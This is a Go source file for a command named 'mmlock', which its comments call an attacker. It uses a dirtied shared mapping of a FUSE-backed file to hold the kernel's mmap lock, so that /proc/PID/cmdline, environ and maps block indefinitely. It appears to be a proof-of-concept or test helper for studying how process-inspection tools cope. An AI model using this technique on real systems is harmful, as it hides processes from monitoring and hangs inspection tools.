// Command mmlock is an attacker: its memory cannot be looked at, for as long as a FUSE
// server likes. It changes a page of the file that is mapped, and maps something else
// there: the kernel writes the page back first (fs/fuse/file.c, fuse_vma_close), under
// the lock that /proc/PID/cmdline, environ and maps wait for.
//
//	mmlock FILE
package main

import (
	"fmt"
	"os"
	"runtime"

	"golang.org/x/sys/unix"
)

// The process's first thread waits, as who looks for it sees that one's state.
func init() { runtime.LockOSThread() }

func main() {
	if err := run(os.Args[1]); err != nil {
		fmt.Fprintln(os.Stderr, "mmlock:", err)
		os.Exit(1)
	}
}

func run(file string) error {
	fd, err := unix.Open(file, unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	var st unix.Stat_t // tells the kernel how long it is
	if err := unix.Fstat(fd, &st); err != nil {
		return err
	}
	const at, size = 0x700000000000, 4096
	mapAt := func(fd, flags int) error {
		_, _, errno := unix.RawSyscall6(unix.SYS_MMAP, at, size, unix.PROT_READ|unix.PROT_WRITE, uintptr(flags|unix.MAP_FIXED), uintptr(fd), 0)
		if errno != 0 {
			return errno
		}
		return nil
	}
	if err := mapAt(fd, unix.MAP_SHARED); err != nil {
		return fmt.Errorf("map %s: %w", file, err)
	}
	// The kernel writes into the page, so that no pointer is needed.
	if _, _, errno := unix.RawSyscall(unix.SYS_GETCWD, at, size, 0); errno != 0 {
		return fmt.Errorf("change the page: %w", errno)
	}
	fmt.Println("ready")
	return mapAt(-1, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS)
}
